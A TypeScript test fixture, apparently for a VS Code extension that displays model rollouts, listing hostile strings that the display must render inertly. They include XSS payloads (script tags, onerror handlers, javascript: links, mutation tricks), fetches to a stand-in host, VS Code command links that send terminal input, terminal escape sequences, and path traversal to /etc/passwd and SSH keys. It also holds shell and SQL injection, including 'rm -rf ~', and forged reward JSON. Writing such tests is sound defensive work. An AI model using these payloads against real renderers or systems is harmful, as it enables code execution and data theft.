/**
 * Texts that a model, a dataset or a stranger's run may hold, each trying to be more than text where it is shown. What would
 * run sets `MARK` on its window; what would ask a host asks `HOST`; what would run a command of VS Code runs `COMMAND`.
 */
export interface HostileText {
  readonly name: string
  readonly text: string
}

/** Name of the global variable that any executed script sets. */
export const MARK = 'rolloutLabWasHere'
export const HOST = 'https://hostile.invalid'
/** A command that leaves a trace when it runs: an untitled editor. */
export const COMMAND = 'command:workbench.action.files.newUntitledFile'

const run = `globalThis.${MARK}=1`
const call = `fetch('${HOST}/fetch')`
const ESC = '\u001b'

const html: Readonly<Record<string, string>> = {
  script: `<script>${run};${call}</script>`,
  'script from a host': `<script src="${HOST}/a.js"></script>`,
  'script that ends another': `</script><script>${run}</script>`,
  'module script': `<script type="module">import '${HOST}/m.js';${run}</script>`,
  'image with an error handler': `<img src=x onerror="${run}">`,
  'image of a host': `<img src="${HOST}/pixel.png" srcset="${HOST}/2x.png 2x">`,
  'handler that starts by itself': `<body onload="${run}"><details open ontoggle="${run}"><summary>open</summary></details>`,
  'input with focus': `<input autofocus onfocus="${run}">`,
  'animation handler': `<style>@keyframes a{}</style><b style="animation:a" onanimationstart="${run}">x</b>`,
  iframe: `<iframe src="${HOST}/frame"></iframe><iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  'object and embed': `<object data="${HOST}/o"></object><embed src="${HOST}/e">`,
  'video and audio': `<video src="${HOST}/v" onerror="${run}"></video><audio src="${HOST}/s" autoplay></audio>`,
  form: `<form action="${HOST}/post" method="post"><button>Continue</button></form>`,
  'base address': `<base href="${HOST}/">`,
  'link elements': `<link rel="stylesheet" href="${HOST}/c.css"><link rel="prefetch" href="${HOST}/p"><link rel="dns-prefetch" href="//hostile.invalid">`,
  'refresh header': `<meta http-equiv="refresh" content="0;url=${HOST}/go">`,
  'content policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'script link': `<a href="javascript:${run}">answer</a>`,
  'script link with a tab': `<a href="java\tscript:${run}">answer</a>`,
  'custom element': `<rollout-view onclick="${run}"></rollout-view><lab-chart data-x="${HOST}"></lab-chart>`,
  template: `<template shadowrootmode="open"><script>${run}</script></template>`,
  'unclosed comment': `<!-- <div title="--><img src=x onerror=${run}>"`,
  'attribute break': `"><img src=x onerror="${run}"><i title="`,
  'entity disguise': `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation through math': `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`
}

const svg: Readonly<Record<string, string>> = {
  'svg with a handler': `<svg onload="${run}"><script>${run}</script></svg>`,
  'svg with a foreign object': `<svg><foreignObject><iframe src="${HOST}/svg"></iframe></foreignObject></svg>`,
  'svg use': `<svg><use href="${HOST}/sprite.svg#a"/><image href="${HOST}/i.png"/></svg>`,
  'svg in a data address': `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`).toString('base64')})`,
  'page in a data address': `[x](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`
}

const css: Readonly<Record<string, string>> = {
  'style that hides the page': '<style>*{display:none!important}</style>',
  'style that imports': `<style>@import url(${HOST}/i.css);body{background:url(${HOST}/b.png)}</style>`,
  'style attribute over everything': `<div style="position:fixed;inset:0;z-index:99999;background:url(${HOST}/f.png)">Session expired. Sign in</div>`,
  'font face': `<style>@font-face{font-family:x;src:url(${HOST}/f.woff2)}body{font-family:x}</style>`
}

const markdown: Readonly<Record<string, string>> = {
  'command link': `[Click to continue](${COMMAND})`,
  'command link with arguments': `[ok](command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: 'touch /tmp/hostile\n' }))})`,
  'command link in a reference': `[ok][1]\n\n[1]: ${COMMAND} "title"`,
  'autolink': `<${COMMAND}> <${HOST}/auto> ${HOST}/bare`,
  'markdown image': `![a](${HOST}/m.png) ![b][r]\n\n[r]: ${HOST}/r.png`,
  'codicon and markdown in a label': '$(error) $(sync~spin) **bold** `code` ~~gone~~',
  'links of VS Code': 'vscode://vscode.git/clone?url=https://hostile.invalid/x.git vscode://rollout-lab.rollout-lab/rollout?run=/etc&id=passwd file:///etc/passwd',
  'fence that ends early': '```\n```html\n<script>' + run + '</script>\n```\n# Heading',
  'markdown table of links': `| a | b |\n|---|---|\n| [x](javascript:${run}) | <img src=x onerror=${run}> |`,
  'TeX that reaches out': `$\\href{javascript:${run}}{x}$ $\\url{${HOST}}$ $\\includegraphics{${HOST}/t.png}$ $\\htmlData{a=b}{c}$`,
  'TeX without end': `$$${'\\def\\a{\\a\\a}\\a'}$$ $${'{'.repeat(2000)}$`,
  'TeX blow-up': `$${'\\frac{1}{'.repeat(300)}1${'}'.repeat(300)}$`
}

const terminal: Readonly<Record<string, string>> = {
  'ANSI colours and cursor': `${ESC}[31mred${ESC}[0m${ESC}[2J${ESC}[H${ESC}[?1049h erased`,
  'window title and clipboard': `${ESC}]0;owned\u0007${ESC}]52;c;aGVsbG8=\u0007`,
  'terminal hyperlink': `${ESC}]8;;${HOST}\u0007click${ESC}]8;;\u0007`,
  'C1 controls': '\u009b31m\u009d0;title\u009c \u0090q\u009c',
  'carriage returns that overwrite': 'reward 0.0\rreward 1.0\b\b\b9.9',
  'every control character': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f'
}

const unicode: Readonly<Record<string, string>> = {
  'bidi override': 'answer \u202e0001\u202c is 1000 \u2066\u2067x\u2069\u2069 \u061c\u200f',
  'zero width': 'a\u200bn\u200cs\u200dw\u2060e\ufeffr',
  'tag characters': `visible${[...'hidden order'].map((character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0))).join('')}`,
  'lone surrogates': '\ud800 \udc00 \udfff\ud800 end\ud83d',
  'combining flood': `a${'\u0301'.repeat(5000)}`,
  'look-alike letters': 'аnѕwеr: １２ = 12',
  'line separators': 'one\u2028two\u2029three\u0085four\u000bfive\u000csix',
  'non-characters': '\ufffe\uffff\u{1ffff}\u0000',
  'wide glyph': '\ufdfd'.repeat(500)
}

const shapes: Readonly<Record<string, string>> = {
  'ten megabytes on one line': 'x'.repeat(10_000_000),
  'many lines': 'y\n'.repeat(200_000),
  'very deep brackets': '['.repeat(50_000) + ']'.repeat(50_000),
  'very deep quotes': '>'.repeat(5000) + ' deep',
  'very deep think tags': '<think>'.repeat(5000) + '</think>'.repeat(4999),
  'huge numbers': `${'9'.repeat(5000)} 1e999999 -0 NaN Infinity 0x${'f'.repeat(1000)}`,
  'pattern that backtracks': `${'a'.repeat(50_000)}!`,
  empty: '',
  blanks: ' \t\n '.repeat(100)
}

const names: Readonly<Record<string, string>> = {
  'path upwards': '../../../../etc/passwd',
  'absolute path': '/etc/passwd',
  'path of Windows': 'C:\\Windows\\System32\\..\\..\\x \\\\hostile.invalid\\share',
  'device names': 'CON NUL /dev/zero /proc/self/mem',
  'home and variables': '~/.ssh/id_rsa $HOME ${env:HOME} %USERPROFILE% ${command:x}',
  prototype: '__proto__',
  constructor: 'constructor',
  'shell words': '; rm -rf ~ && $(touch /tmp/hostile) `id` | cat',
  'SQL words': "'); DROP TABLE rollouts; SELECT * FROM read_csv('/etc/passwd'); --",
  'template words': '${process.exit(1)} {{constructor.constructor("' + run + '")()}} <%= 1 %> #{7*7}',
  'JSON that ends early': '"},"correct":true,"reward":{"total":999}}'
}

const named = (group: string, texts: Readonly<Record<string, string>>): HostileText[] => Object.entries(texts).map(([name, text]) => ({ name: `${group}: ${name}`, text }))

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...named('html', html), ...named('svg', svg), ...named('css', css), ...named('markdown', markdown), ...named('terminal', terminal),
  ...named('unicode', unicode), ...named('shape', shapes), ...named('name', names)
]
